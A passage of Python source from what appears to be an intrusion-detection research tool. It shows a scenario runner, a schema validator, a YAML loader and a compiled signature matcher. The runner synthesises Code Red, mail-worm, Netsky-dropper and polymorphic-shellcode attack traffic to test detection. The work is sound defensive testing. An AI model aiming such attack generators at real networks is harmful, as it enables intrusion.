        for i, item in enumerate(raw):
            path = f"campaigns[{i}]"
            campaigns.append(_validate_campaign(
                _Ctx(_mapping(item, path), path)))
    evasion = []
    if "evasion" in root.data:
        raw = root.get("evasion", (list,), default=[])
        for i, item in enumerate(raw):
            path = f"evasion[{i}]"
            evasion.append(_validate_evasion(
                _Ctx(_mapping(item, path), path)))
    chaos = []
    if "chaos" in root.data:
        raw = root.get("chaos", (list,), default=[])
        for i, item in enumerate(raw):
            path = f"chaos[{i}]"
            chaos.append(_validate_chaos(
                _Ctx(_mapping(item, path), path), engine.kind))
    expect = ExpectSpec()
    if "expect" in root.data:
        expect = _validate_expect(
            _Ctx(_mapping(root.data["expect"], "expect"), "expect"), engine)
    crash_entries = [c for c in chaos if c.kind == "crash"]
    if len(crash_entries) > 1:
        raise ScenarioError(
            "chaos", "at most one crash entry per scenario (one kill "
                     "schedule drives the whole restart loop)")
    if crash_entries and engine.kind == "daemon":
        policy = engine.daemon.get("shed_policy", "block")
        if policy != "block":
            raise ScenarioError(
                "engine.daemon.shed_policy",
                f"crash chaos requires the lossless block policy "
                f"(got {policy!r}): replay parity cannot hold when "
                f"load shedding drops packets nondeterministically")
    if expect.recovery is not None and not crash_entries:
        raise ScenarioError(
            "expect.recovery",
            "recovery assertions need a chaos entry of kind crash")
    return ScenarioSpec(
        name=name,
        description=root.get("description", (str,), default=""),
        seed=seed,
        traffic=traffic,
        campaigns=tuple(campaigns),
        evasion=tuple(evasion),
        chaos=tuple(chaos),
        engine=engine,
        expect=expect,
    )

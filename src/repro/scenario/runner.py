"""Scenario execution: one spec in, one deterministic result out.

The runner composes the repository's building blocks behind a single
seeded clock:

1. **trace assembly** — benign mix (:class:`~repro.traffic.BenignMixGenerator`),
   background radiation, and each campaign's packets are generated on
   per-section :class:`~repro.net.wire.Wire` clocks, merged, and
   stable-sorted by timestamp;
2. **evasion** — the merged trace is rewritten through each transform in
   order (:func:`~repro.traffic.apply_evasion`);
3. **chaos** — stall payloads ride in the trace, ``truncate-capture``
   round-trips the trace through a real (truncated) pcap with salvage,
   ``decode-faults`` hooks the engine's classifier via the seeded
   :class:`~repro.resilience.FaultInjector`;
4. **analysis** — the selected engine (serial / parallel / daemon /
   fleet) processes the trace;
5. **assertion** — the ``expect:`` block is evaluated against the alert
   stream and the metrics registry, and a machine-readable result
   (``repro.scenario-result/v1``) is produced.

Every random choice descends from ``spec.seed`` through
:func:`derive_seed`, so the same YAML and seed reproduce a byte-identical
alert stream — and because the parallel engine's merge is
submission-ordered, the stream is also identical across ``serial`` and
``parallel`` engine kinds (the differential suites pin this).
"""

from __future__ import annotations

import hashlib
import json
import tempfile
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ..net.packet import Packet, udp_packet
from ..net.wire import Host, Wire
from .schema import (
    CampaignSpec, ChaosSpec, EngineSpec, ExpectSpec, ScenarioError,
    ScenarioSpec,
)

__all__ = ["ScenarioResult", "CheckResult", "RESULT_SCHEMA",
           "build_trace", "derive_seed", "render_alert_stream",
           "run_scenario"]

RESULT_SCHEMA = "repro.scenario-result/v1"


def derive_seed(master: int, label: str) -> int:
    """A stable sub-seed for ``label`` under ``master``.

    sha256-based (not :func:`hash`, which is salted per interpreter), so
    a scenario's derived seeds are identical across runs and machines.
    """
    digest = hashlib.sha256(f"{master}:{label}".encode()).digest()
    return int.from_bytes(digest[:4], "big")


# ---------------------------------------------------------------------------
# trace assembly
# ---------------------------------------------------------------------------


def _captured_wire(start_time: float) -> tuple[Wire, list[Packet]]:
    out: list[Packet] = []
    wire = Wire(start_time=start_time)
    wire.attach(out.append)
    return wire, out


def _benign_packets(spec: ScenarioSpec) -> list[Packet]:
    traffic = spec.traffic
    if traffic is None:
        return []
    from ..traffic import BenignMixGenerator, RadiationGenerator

    seed = (traffic.seed if traffic.seed is not None
            else derive_seed(spec.seed, "traffic"))
    gen = BenignMixGenerator(seed=seed, client_net=traffic.client_net,
                             server_net=traffic.server_net,
                             start_time=traffic.start_time,
                             mean_gap=traffic.mean_gap)
    packets = (gen.generate_packets(traffic.conversations)
               if traffic.conversations else [])
    if traffic.radiation:
        monitored = traffic.server_net.rsplit(".", 1)[0] + "."
        radiation = RadiationGenerator(
            seed=derive_seed(spec.seed, "radiation"),
            monitored_net=monitored)
        packets.extend(radiation.mixed(traffic.radiation,
                                       base_time=traffic.start_time))
    return packets


def _campaign_packets(spec: CampaignSpec, index: int,
                      master_seed: int) -> list[Packet]:
    seed = (spec.seed if spec.seed is not None
            else derive_seed(master_seed, f"campaigns[{index}]"))
    builder = _CAMPAIGN_BUILDERS[spec.engine]
    return builder(spec, index, seed)


def _codered_campaign(spec: CampaignSpec, index: int,
                      seed: int) -> list[Packet]:
    from ..engines import CodeRedHost

    source = spec.source or f"10.{30 + index}.3.7"
    target = spec.target or "10.10.0.7"
    worm = CodeRedHost(ip=source, seed=seed)
    out = worm.scan_packets(count=spec.options.get("scans", 40),
                            base_time=spec.at)
    for k in range(spec.options.get("count", 1)):
        out.extend(worm.exploit_packets(target,
                                        base_time=spec.at + 1.0 + 0.5 * k))
    return out


def _mailworm_campaign(spec: CampaignSpec, index: int,
                       seed: int) -> list[Packet]:
    from ..engines import MailWormHost

    wire, out = _captured_wire(spec.at)
    worm = MailWormHost(ip=spec.source or "192.168.2.7", seed=seed,
                        relay_net=spec.options.get("relay_net", "10.10.1."))
    worm.burst(wire, count=spec.options.get("count", 12))
    return out


def _netsky_campaign(spec: CampaignSpec, index: int,
                     seed: int) -> list[Packet]:
    """The worm body served over HTTP: a victim downloads the dropper
    (polymorphic xor stub + Netsky-style body) from an infected host."""
    from ..engines import build_worm_attachment

    wire, out = _captured_wire(spec.at)
    source = spec.source or f"10.{60 + index}.2.2"
    target = spec.target or "192.168.1.50"
    victim = Host(ip=target, wire=wire)
    for k in range(spec.options.get("count", 1)):
        body = build_worm_attachment(
            seed=seed + k, body_size=spec.options.get("size", 22 * 1024))
        session = victim.open_tcp(source, 80)
        session.send(b"GET /update.exe HTTP/1.0\r\n\r\n")
        session.reply(
            b"HTTP/1.0 200 OK\r\nContent-Type: "
            b"application/octet-stream\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\n\r\n" + body)
        session.close()
    return out


def _polymorphic_campaign(spec: CampaignSpec, index: int,
                          seed: int) -> list[Packet]:
    """ADMmutate / Clet / metamorphic instances fired as §5.2's generic
    overflow exploit conversations."""
    from ..engines import (
        AdmMutateEngine, CletEngine, MetamorphicEngine, get_shellcode,
    )
    from ..engines.exploit import generic_overflow_request

    wire, out = _captured_wire(spec.at)
    attacker = Host(ip=spec.source or f"203.0.113.{10 + index}", wire=wire)
    target = spec.target or "10.10.0.7"
    shellcode = get_shellcode(spec.options.get("shellcode", "classic-execve"))
    count = spec.options.get("count", 1)
    if spec.engine == "admmutate":
        engine = AdmMutateEngine(seed=seed)
        family = spec.options.get("family")
        instances = (engine.mutate(shellcode.assemble(), instance=i,
                                   family=family).data
                     for i in range(count))
    elif spec.engine == "clet":
        engine = CletEngine(seed=seed)
        instances = (engine.mutate(shellcode.assemble(), instance=i).data
                     for i in range(count))
    else:  # metamorph: the payload itself is rewritten, no decoder
        engine = MetamorphicEngine(
            seed=seed,
            junk_probability=spec.options.get("junk_probability", 0.35))
        instances = (engine.mutate_source(shellcode.source, instance=i).data
                     for i in range(count))
    for i, payload in enumerate(instances):
        session = attacker.open_tcp(target, 80)
        session.send(generic_overflow_request(payload, seed=i))
        session.close()
    return out


def _exploits_campaign(spec: CampaignSpec, index: int,
                       seed: int) -> list[Packet]:
    from ..engines import ExploitGenerator

    wire, out = _captured_wire(spec.at)
    gen = ExploitGenerator(wire,
                           attacker_ip=spec.source or f"203.0.113.{10 + index}")
    gen.fire_all(spec.target or "10.10.0.7", seed=seed)
    return out


_CAMPAIGN_BUILDERS = {
    "codered": _codered_campaign,
    "mailworm": _mailworm_campaign,
    "netsky": _netsky_campaign,
    "admmutate": _polymorphic_campaign,
    "clet": _polymorphic_campaign,
    "metamorph": _polymorphic_campaign,
    "exploits": _exploits_campaign,
}


def _stall_packets(chaos: ChaosSpec) -> list[Packet]:
    from ..resilience.chaos import build_stall_payload

    opts = chaos.options
    payload = build_stall_payload(instructions=opts["instructions"])
    return [udp_packet(opts["source"], opts["target"], 6000 + k, 69,
                       payload=payload, timestamp=opts["at"] + 0.01 * k)
            for k in range(opts["count"])]


def build_trace(spec: ScenarioSpec) -> list[Packet]:
    """Assemble the scenario's packet trace, deterministically.

    Benign mix, campaigns, and stall payloads are generated on their own
    clocks, merged, stable-sorted by timestamp, then rewritten through
    the evasion transforms in order.  ``truncate-capture`` chaos (a
    byte-level fault) additionally round-trips the result through a real
    truncated pcap with salvage, exactly what a crashed sensor host
    leaves behind.
    """
    packets = _benign_packets(spec)
    for i, campaign in enumerate(spec.campaigns):
        packets.extend(_campaign_packets(campaign, i, spec.seed))
    for chaos in spec.chaos:
        if chaos.kind == "stall-payload":
            packets.extend(_stall_packets(chaos))
    packets.sort(key=lambda p: p.timestamp)

    from ..traffic import apply_evasion

    for i, evasion in enumerate(spec.evasion):
        seed = (evasion.seed if evasion.seed is not None
                else derive_seed(spec.seed, f"evasion[{i}]"))
        packets = apply_evasion(evasion.transform, packets, seed=seed)

    for chaos in spec.chaos:
        if chaos.kind == "truncate-capture":
            packets = _truncated_roundtrip(packets,
                                           chaos.options["drop_bytes"])
    return packets


def _truncated_roundtrip(packets: list[Packet], drop: int) -> list[Packet]:
    from ..net.pcap import PcapReader, write_pcap
    from ..resilience.chaos import truncate_capture

    if not packets:
        return packets
    with tempfile.TemporaryDirectory() as tmp:
        whole = Path(tmp) / "scenario.pcap"
        cut = Path(tmp) / "scenario-cut.pcap"
        write_pcap(whole, packets)
        truncate_capture(whole, cut, drop=drop)
        with PcapReader(cut, salvage=True) as reader:
            return list(reader)


# ---------------------------------------------------------------------------
# engine execution
# ---------------------------------------------------------------------------


def _run_engine(spec: ScenarioSpec, packets: list[Packet]):
    """Process ``packets`` through the configured engine.

    Returns ``(alerts, registry, recovery_report)`` — the report is
    ``None`` unless a ``crash`` chaos entry routed the run through the
    crash/restart harness.
    """
    from ..nids import (
        ParallelSemanticNids, SemanticNids, SensorDaemon, SensorFleet,
    )
    from ..nids.daemon import IterPacketSource
    from ..nids.parallel import resolve_template_set

    engine: EngineSpec = spec.engine
    options = dict(engine.options)
    fault_chaos = [c for c in spec.chaos if c.kind == "decode-faults"]
    crash_chaos = [c for c in spec.chaos if c.kind == "crash"]

    if crash_chaos:
        return _run_crash_engine(spec, packets, crash_chaos[0])

    if engine.kind == "fleet":
        fleet = SensorFleet(workers=engine.workers,
                            template_set=engine.template_set,
                            nids_options=options)
        try:
            fleet.process_trace(packets)
        finally:
            fleet.close()
        return fleet.alerts, fleet.registry, None

    if engine.kind == "parallel":
        nids = ParallelSemanticNids(workers=engine.workers,
                                    template_set=engine.template_set,
                                    **options)
    else:
        nids = SemanticNids(
            templates=resolve_template_set(engine.template_set), **options)

    with ExitStack() as stack:
        stack.callback(nids.close)
        for chaos in fault_chaos:
            stack.enter_context(_decode_faults(nids, chaos, spec.seed,
                                               len(packets)))
        if engine.kind == "daemon":
            daemon = SensorDaemon(
                nids, IterPacketSource(iter(packets)),
                ring_capacity=engine.daemon.get("ring_capacity", 4096),
                shed_policy=engine.daemon.get("shed_policy", "block"),
                batch_size=engine.daemon.get("batch_size", 256),
            )
            daemon.run()
        else:
            nids.process_trace(packets)
    return nids.alerts, nids.registry, None


def _run_crash_engine(spec: ScenarioSpec, packets: list[Packet],
                      chaos: ChaosSpec):
    """Route a ``crash`` scenario through the crash/restart harness
    (:mod:`repro.resilience.recovery`): a reference run pins the
    uninterrupted stream, then the kill schedule runs against a fresh
    checkpoint directory and the recovered stream is compared."""
    from ..nids import SemanticNids
    from ..nids.parallel import resolve_template_set
    from ..resilience.recovery import (
        run_daemon_reference, run_daemon_with_crashes,
        run_fleet_reference, run_fleet_with_crashes,
    )

    engine: EngineSpec = spec.engine
    opts = chaos.options
    with tempfile.TemporaryDirectory() as tmp:
        if engine.kind == "daemon":
            def factory():
                return SemanticNids(
                    templates=resolve_template_set(engine.template_set),
                    **dict(engine.options))

            daemon_options = {
                "ring_capacity": engine.daemon.get("ring_capacity", 4096),
                "batch_size": engine.daemon.get("batch_size", 256),
            }
            reference, _ = run_daemon_reference(
                packets, nids_factory=factory,
                daemon_options=daemon_options)
            report = run_daemon_with_crashes(
                packets, nids_factory=factory, checkpoint_dir=tmp,
                kills=opts["kills"], kill_kind=opts["kill_kind"],
                checkpoint_interval=opts["checkpoint_interval"],
                daemon_options=daemon_options)
        else:  # fleet (validation pins crash to daemon/fleet)
            fleet_options = {
                "workers": engine.workers,
                "template_set": engine.template_set,
                "nids_options": dict(engine.options),
            }
            reference, _ = run_fleet_reference(
                packets, fleet_options=fleet_options)
            report = run_fleet_with_crashes(
                packets, checkpoint_dir=tmp,
                kills=opts["kills"], kill_kind=opts["kill_kind"],
                checkpoint_interval=opts["checkpoint_interval"],
                fleet_options=fleet_options)
        report.reference_lines = reference
    return report.alerts, report.registry, report


def _decode_faults(nids, chaos: ChaosSpec, master_seed: int,
                   population: int):
    from ..resilience.chaos import FaultInjector

    seed = chaos.options.get("seed")
    if seed is None:
        seed = derive_seed(master_seed, "chaos.decode-faults")
    injector = FaultInjector(seed=seed)
    chosen = injector.pick(max(population, 1), chaos.options["count"])
    return injector.decode_faults(nids,
                                  lambda index, pkt: index in chosen)


# ---------------------------------------------------------------------------
# expectation checking + result
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class CheckResult:
    """One evaluated ``expect:`` assertion."""

    check: str
    expected: str
    actual: str
    passed: bool

    def as_dict(self) -> dict:
        return {"check": self.check, "expected": self.expected,
                "actual": self.actual, "passed": self.passed}


def render_alert_stream(alerts) -> bytes:
    """The canonical alert-stream bytes the determinism contract pins:
    one :meth:`~repro.nids.Alert.format` line per alert, newline-joined."""
    return b"".join(a.format().encode() + b"\n" for a in alerts)


def _metric_total(registry, name: str) -> float | None:
    """Sum of a metric's value over all label sets (None if absent)."""
    total, seen = 0.0, False
    for metric in registry.metrics():
        if metric.name != name:
            continue
        seen = True
        if hasattr(metric, "value"):
            total += metric.value
        elif hasattr(metric, "count"):  # histogram: its observation count
            total += metric.count
    return total if seen else None


def _counter_totals(registry) -> dict[str, float]:
    totals: dict[str, float] = {}
    for metric in registry.metrics():
        value = getattr(metric, "value", None)
        if value is None:
            continue
        totals[metric.name] = totals.get(metric.name, 0.0) + value
    return {name: totals[name] for name in sorted(totals)}


def _evaluate_recovery(expect: ExpectSpec, report) -> list[CheckResult]:
    """``expect.recovery`` assertions against a crash-run report."""
    if expect.recovery is None:
        return []
    rec = expect.recovery
    checks: list[CheckResult] = []
    if rec.parity:
        checks.append(CheckResult(
            "recovery.parity", "byte-identical to reference",
            "identical" if report.parity else
            f"divergent ({len(report.alert_lines)} vs "
            f"{len(report.reference_lines)} alerts)",
            report.parity))
    for name, bound, actual in (
            ("restarts", rec.restarts, report.crashes),
            ("replayed", rec.replayed, report.replayed),
            ("deduped", rec.deduped, report.deduped)):
        if bound is not None:
            checks.append(CheckResult(
                f"recovery.{name}", bound.describe(), str(actual),
                bound.check(actual)))
    return checks


def _evaluate(expect: ExpectSpec, alerts, registry,
              digest: str) -> list[CheckResult]:
    checks: list[CheckResult] = []
    by_template: dict[str, int] = {}
    for alert in alerts:
        by_template[alert.template] = by_template.get(alert.template, 0) + 1
    if expect.total is not None:
        checks.append(CheckResult(
            "alerts.total", expect.total.describe(), str(len(alerts)),
            expect.total.check(len(alerts))))
    for name in sorted(expect.templates):
        bound = expect.templates[name]
        actual = by_template.get(name, 0)
        checks.append(CheckResult(
            f"alerts.templates.{name}", bound.describe(), str(actual),
            bound.check(actual)))
    if expect.sources is not None:
        actual_sources = {a.source for a in alerts}
        checks.append(CheckResult(
            "alerts.sources",
            "{" + ", ".join(sorted(expect.sources)) + "}",
            "{" + ", ".join(sorted(actual_sources)) + "}",
            actual_sources == set(expect.sources)))
    for name in sorted(expect.metrics):
        bound = expect.metrics[name]
        actual = _metric_total(registry, name)
        checks.append(CheckResult(
            f"metrics.{name}", bound.describe(),
            "absent" if actual is None else f"{actual:g}",
            actual is not None and bound.check(actual)))
    if expect.digest is not None:
        checks.append(CheckResult(
            "digest", expect.digest, digest, digest == expect.digest))
    return checks


@dataclass
class ScenarioResult:
    """Everything one scenario run produced."""

    spec: ScenarioSpec
    packets: int
    alerts: list = field(default_factory=list)
    checks: list[CheckResult] = field(default_factory=list)
    digest: str = ""
    metrics: dict[str, float] = field(default_factory=dict)
    #: crash-run report (repro.resilience.recovery.RecoveryReport) when
    #: the scenario has a ``crash`` chaos entry, else None
    recovery: Any = None

    @property
    def passed(self) -> bool:
        return all(c.passed for c in self.checks)

    def alert_lines(self) -> list[str]:
        return [a.format() for a in self.alerts]

    def as_dict(self) -> dict[str, Any]:
        by_template: dict[str, int] = {}
        for alert in self.alerts:
            by_template[alert.template] = by_template.get(alert.template,
                                                          0) + 1
        return {
            "schema": RESULT_SCHEMA,
            "scenario": self.spec.name,
            "description": self.spec.description,
            "seed": self.spec.seed,
            "engine": {
                "kind": self.spec.engine.kind,
                "workers": (self.spec.engine.workers
                            if self.spec.engine.kind in ("parallel", "fleet")
                            else 1),
                "template_set": self.spec.engine.template_set,
            },
            "packets": self.packets,
            "alerts": {
                "total": len(self.alerts),
                "by_template": dict(sorted(by_template.items())),
                "sources": sorted({a.source for a in self.alerts}),
            },
            "alert_stream_sha256": self.digest,
            "passed": self.passed,
            "checks": [c.as_dict() for c in self.checks],
            "metrics": self.metrics,
            **({"recovery": self.recovery.as_dict()}
               if self.recovery is not None else {}),
        }

    def to_json(self, indent: int | None = 2) -> str:
        return json.dumps(self.as_dict(), indent=indent)


def run_scenario(spec: ScenarioSpec) -> ScenarioResult:
    """Run one validated scenario end to end."""
    packets = build_trace(spec)
    alerts, registry, recovery = _run_engine(spec, packets)
    digest = hashlib.sha256(render_alert_stream(alerts)).hexdigest()
    checks = _evaluate(spec.expect, alerts, registry, digest)
    if recovery is not None:
        checks.extend(_evaluate_recovery(spec.expect, recovery))
    return ScenarioResult(
        spec=spec,
        packets=len(packets),
        alerts=list(alerts),
        checks=checks,
        digest=digest,
        metrics=_counter_totals(registry),
        recovery=recovery,
    )

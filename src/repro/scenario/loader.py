"""Scenario file loading: YAML text → :class:`~repro.scenario.ScenarioSpec`.

Parsing and validation are deliberately split: :func:`loads` handles the
YAML surface (safe loading, friendly syntax errors, the missing-PyYAML
case), :func:`repro.scenario.schema.validate` handles meaning.  Both
speak :class:`~repro.scenario.ScenarioError`, so callers — the CLI, the
test suites, CI — catch exactly one exception type and print exactly one
line.
"""

from __future__ import annotations

from pathlib import Path

from .schema import ScenarioError, ScenarioSpec, validate

__all__ = ["load_scenario", "loads"]

try:  # PyYAML ships with the evaluation image, but degrade gracefully.
    import yaml as _yaml
except ImportError:  # pragma: no cover - exercised only without PyYAML
    _yaml = None


def loads(text: str, source: str = "<scenario>") -> ScenarioSpec:
    """Parse and validate scenario YAML from a string."""
    if _yaml is None:  # pragma: no cover
        raise ScenarioError(
            source, "PyYAML is not installed; scenario files cannot be "
                    "parsed (pip install pyyaml)")
    try:
        data = _yaml.safe_load(text)
    except _yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        where = f"{source}:{mark.line + 1}" if mark is not None else source
        problem = getattr(exc, "problem", None) or str(exc)
        raise ScenarioError(where, f"YAML syntax error: {problem}") from None
    if data is None:
        raise ScenarioError(source, "empty scenario file")
    if not isinstance(data, dict):
        raise ScenarioError(
            source, f"a scenario is a YAML mapping, got "
                    f"{type(data).__name__}")
    return validate(data, source)


def load_scenario(path: str | Path) -> ScenarioSpec:
    """Load and validate one scenario file."""
    path = Path(path)
    try:
        text = path.read_text()
    except FileNotFoundError:
        raise ScenarioError(str(path), "no such file") from None
    except OSError as exc:
        raise ScenarioError(str(path), f"unreadable: {exc}") from None
    return loads(text, source=path.name)

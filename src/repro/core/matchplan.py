"""Compiled template match plans: compile once, execute per start position.

The interpreted matcher (:mod:`repro.core.matcher`) re-derives per
candidate start everything a template implies — variable liveness, gap
families, repeat bounds — by walking the node objects.  A
:class:`TemplatePlan` hoists all of that to compile time:

- node visit order with repeat bounds as flat tuples;
- per-node *variable sets* and, for ordered templates, suffix unions, so
  gap liveness is set-membership instead of re-walking ``variables()``;
- per-node *admission bitsets* over statement kinds, so the executor
  consults ``node.match`` only for statements whose IR shape could
  possibly satisfy the node;
- register families interned to bits, so def-use gap checks are integer
  mask operations against a per-trace ``def_masks`` array.

The plan executors (:class:`CompiledOrdered` / :class:`CompiledUnordered`)
mirror the interpreted search *exactly*: same visit order, same
backtracking, same budget decrements (one per scanned statement), same
binding-dict discipline.  Admission masks and mask trackers only skip
work the interpreted search provably wastes (a ``node.match`` call that
must return ``None``, a gap check over an empty live set), so the two
engines return identical matches and consume identical budget — the
property the compiled-vs-interpreted differential suite pins.

Per-trace arrays (statement kind masks, def masks, the family→bit
interner) are built once per :class:`~repro.core.matcher.PreparedTrace`
and cached on it, shared by every template's plan.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..ir.ops import (
    Assign,
    BinOp,
    Branch,
    Interrupt,
    Load,
    Pop,
    Push,
    Reg,
    Store,
    UnOp,
)
from .template import MatchContext, Template, TemplateMatch

__all__ = [
    "TemplatePlan",
    "compile_plan",
    "plan_data",
    "CompiledOrdered",
    "CompiledUnordered",
]

# -- statement kind bits -----------------------------------------------------
# One bit per IR statement shape a node's ``match`` type-checks against.
# ``plan_data`` classifies every trace statement once; each node gets the
# union of bits its match method could accept (a sound over-approximation:
# a statement outside the mask provably fails the node's isinstance
# checks, so skipping the call cannot change the search).

K_STORE = 1        # Store
K_LOAD = 2         # Assign whose src is a Load
K_ASSIGN = 4       # any Assign
K_JUMP = 8         # Branch in the jmp/jcc/loop family with a known target
K_CALL_IND = 16    # Branch kind "call" with no known target
K_PUSH = 32        # Push
K_INT = 64         # Interrupt
K_A_BINOP = 128    # Assign whose src is a BinOp
K_A_UNOP = 256     # Assign whose src is a UnOp
K_A_REG = 512      # Assign whose src is a plain Reg
K_POP = 1024       # Pop (gap-tracker bookkeeping, not node admission)
K_ALL = 2047
K_PUSHPOP = K_PUSH | K_POP

_LOOP_KINDS = ("jmp", "jcc", "loop", "loope", "loopne", "jecxz")

#: node class name -> admission mask.  Unknown node classes admit every
#: statement (sound default: the executor just calls ``match`` as the
#: interpreted search would).
_NODE_ADMITS: dict[str, int] = {
    "MemRmw": K_STORE,
    "LoadFrom": K_LOAD,
    "StoreTo": K_STORE,
    "PointerStep": K_A_BINOP,
    "RegCompute": K_A_BINOP | K_A_UNOP,
    "RegFromEsp": K_A_REG | K_A_BINOP,
    "LoopBack": K_JUMP,
    "Syscall": K_INT,
    "ConstBytesWrite": K_PUSH | K_STORE,
    "ConstCapture": K_PUSH | K_STORE,
    "PushValue": K_PUSH,
    "IndirectCall": K_CALL_IND,
}


def plan_data(trace):
    """Per-trace execution arrays: ``(kind_masks, def_masks, fam_bit)``.

    Built lazily and cached on the trace; shared by every compiled plan
    (and, through the analyzer's IR cache, across frames with identical
    content).  ``fam_bit`` interns register family names to single-bit
    integers consistently across def masks and liveness masks.
    """
    data = getattr(trace, "_plan_data", None)
    if data is not None:
        return data
    bits: dict[str, int] = {}

    def fam_bit(family: str) -> int:
        bit = bits.get(family)
        if bit is None:
            bit = 1 << len(bits)
            bits[family] = bit
        return bit

    kinds = []
    for stmt in trace.stmts:
        if isinstance(stmt, Store):
            k = K_STORE
        elif isinstance(stmt, Assign):
            k = K_ASSIGN
            src = stmt.src
            if isinstance(src, Load):
                k |= K_LOAD
            elif isinstance(src, BinOp):
                k |= K_A_BINOP
            elif isinstance(src, UnOp):
                k |= K_A_UNOP
            elif isinstance(src, Reg):
                k |= K_A_REG
        elif isinstance(stmt, Branch):
            if stmt.kind == "call":
                k = K_CALL_IND if stmt.target is None else 0
            elif stmt.kind in _LOOP_KINDS and stmt.target is not None:
                k = K_JUMP
            else:
                k = 0
        elif isinstance(stmt, Push):
            k = K_PUSH
        elif isinstance(stmt, Pop):
            k = K_POP
        elif isinstance(stmt, Interrupt):
            k = K_INT
        else:
            k = 0
        kinds.append(k)
    def_masks = []
    for defs in trace.defs:
        m = 0
        for fam in defs:
            m |= fam_bit(fam)
        def_masks.append(m)
    data = (kinds, def_masks, fam_bit)
    trace._plan_data = data
    return data


@dataclass(frozen=True)
class TemplatePlan:
    """A template compiled to flat execution form.

    Holding a strong reference to ``template`` pins its ``id`` for the
    engine's plan cache — a plan can never go stale while cached.
    """

    template: Template
    nodes: tuple
    ordered: bool
    max_gap: int
    n_nodes: int
    min_reps: tuple[int, ...]
    max_reps: tuple[int, ...]
    #: variables each node can bind (compile-time ``node.variables()``)
    node_vars: tuple[frozenset[str], ...]
    #: var -> index of the last node using it (liveness horizon)
    last_use: dict[str, int]
    #: ordered only: union of node_vars[i:] per node index
    suffix_vars: tuple[frozenset[str], ...]
    #: per-node statement admission masks
    admits: tuple[int, ...]
    #: start-position fast-fail mask (-1 = disabled): a start whose
    #: statement kind intersects no first-matchable node's admission mask
    #: fails after exactly one budget decrement, as interpreted would.
    fast_admit: int
    # unordered-template fields (empty for ordered templates)
    order_free: tuple[int, ...]
    required_free: tuple[int, ...]  # order_free nodes with min_rep >= 1
    loopbacks: tuple[int, ...]
    union_admit: int  # union of admits over order_free
    #: per remaining-loopback suffix: (vars union, horizon)
    lb_suffix: tuple[tuple[frozenset[str], int], ...]


def compile_plan(template: Template) -> TemplatePlan:
    """Compile one template into a :class:`TemplatePlan`."""
    from .template import LoopBack

    nodes = tuple(template.nodes)
    n = len(nodes)
    min_reps = tuple(template.repeats.get(i, (1, 1))[0] for i in range(n))
    max_reps = tuple(template.repeats.get(i, (1, 1))[1] for i in range(n))
    node_vars = tuple(frozenset(node.variables()) for node in nodes)
    last_use: dict[str, int] = {}
    for i, vars_ in enumerate(node_vars):
        for var in vars_:
            last_use[var] = i
    admits = tuple(_NODE_ADMITS.get(type(node).__name__, K_ALL)
                   for node in nodes)
    suffix_vars: list[frozenset[str]] = [frozenset()] * n
    acc: frozenset[str] = frozenset()
    for i in range(n - 1, -1, -1):
        acc = acc | node_vars[i]
        suffix_vars[i] = acc
    order_free = tuple(i for i in range(n)
                       if not isinstance(nodes[i], LoopBack))
    required_free = tuple(i for i in order_free if min_reps[i] >= 1)
    loopbacks = tuple(i for i in range(n) if isinstance(nodes[i], LoopBack))
    union_admit = 0
    for i in order_free:
        if max_reps[i] > 0:
            union_admit |= admits[i]
    if template.ordered:
        # The fast-fail path models the interpreted search's exact cost
        # (one budget unit) only when the first node is required; an
        # optional head would let deeper nodes try the start position.
        fast_admit = admits[0] if n and min_reps[0] >= 1 else -1
    else:
        fast_admit = union_admit
    lb_suffix: list[tuple[frozenset[str], int]] = []
    for i in range(len(loopbacks)):
        rest = loopbacks[i:]
        union: frozenset[str] = frozenset()
        for j in rest:
            union = union | node_vars[j]
        lb_suffix.append((union, max(rest)))
    return TemplatePlan(
        template=template, nodes=nodes, ordered=template.ordered,
        max_gap=template.max_gap, n_nodes=n, min_reps=min_reps,
        max_reps=max_reps, node_vars=node_vars, last_use=last_use,
        suffix_vars=tuple(suffix_vars), admits=admits,
        fast_admit=fast_admit, order_free=order_free,
        required_free=required_free, loopbacks=loopbacks,
        union_admit=union_admit, lb_suffix=tuple(lb_suffix),
    )


class _MaskTracker:
    """Def-use gap tracker over family bit masks.

    Mask translation of :class:`repro.core.matcher._GapTracker`: same
    push/pop save-restore forgiveness, integer masks instead of frozenset
    intersections.  Only instantiated for a non-empty live mask — with
    nothing live the original tracker can never fail or save.
    """

    __slots__ = ("live", "fb", "depth", "saved", "saved_mask")

    def __init__(self, live_mask: int, fam_bit) -> None:
        self.live = live_mask
        self.fb = fam_bit
        self.depth = 0
        self.saved: dict[str, int] = {}
        self.saved_mask = 0

    def clean_at_match(self) -> bool:
        return not (self.saved_mask & self.live)

    def step(self, stmt, def_mask: int) -> bool:
        if isinstance(stmt, Push):
            src = stmt.src
            if isinstance(src, Reg):
                family = src.family
                bit = self.fb(family)
                if (bit & self.live) and family not in self.saved:
                    self.saved[family] = self.depth
                    self.saved_mask |= bit
            self.depth += 1
            return True
        if isinstance(stmt, Pop):
            self.depth -= 1
            family = stmt.dst
            if self.saved.get(family) == self.depth:
                del self.saved[family]
                self.saved_mask &= ~self.fb(family)
                return True
            if family not in self.saved and (self.fb(family) & self.live):
                return False
            return True
        return not (def_mask & self.live & ~self.saved_mask)


class _CompiledBase:
    __slots__ = ("p", "stmts", "envs", "defm", "kinds", "fb", "ctx",
                 "budget", "n")

    def __init__(self, plan, trace, kinds, def_masks, fam_bit, ctx, budget):
        self.p = plan
        self.stmts = trace.stmts
        self.envs = trace.envs
        self.defm = def_masks
        self.kinds = kinds
        self.fb = fam_bit
        self.ctx = ctx
        self.budget = budget
        self.n = len(trace.stmts)

    def _result(self, bindings, matched):
        stmts = self.stmts
        return TemplateMatch(
            template=self.p.template, bindings=bindings,
            positions=list(matched),
            statements=[stmts[i] for i in matched],
        )


class CompiledOrdered(_CompiledBase):
    """Plan executor for ordered templates."""

    __slots__ = ()

    def run(self, start: int):
        budget = self.budget
        if budget[0] <= 0:
            return None
        fa = self.p.fast_admit
        if fa >= 0 and not (self.kinds[start] & fa):
            budget[0] -= 1
            return None
        self.ctx.first_pos = -1
        return self._rec(0, start, {}, [], 0)

    def _live_mask(self, bindings, node_idx: int) -> int:
        # Ordered liveness: every remaining node is in the suffix and the
        # horizon is the last node, so a bound register family is live
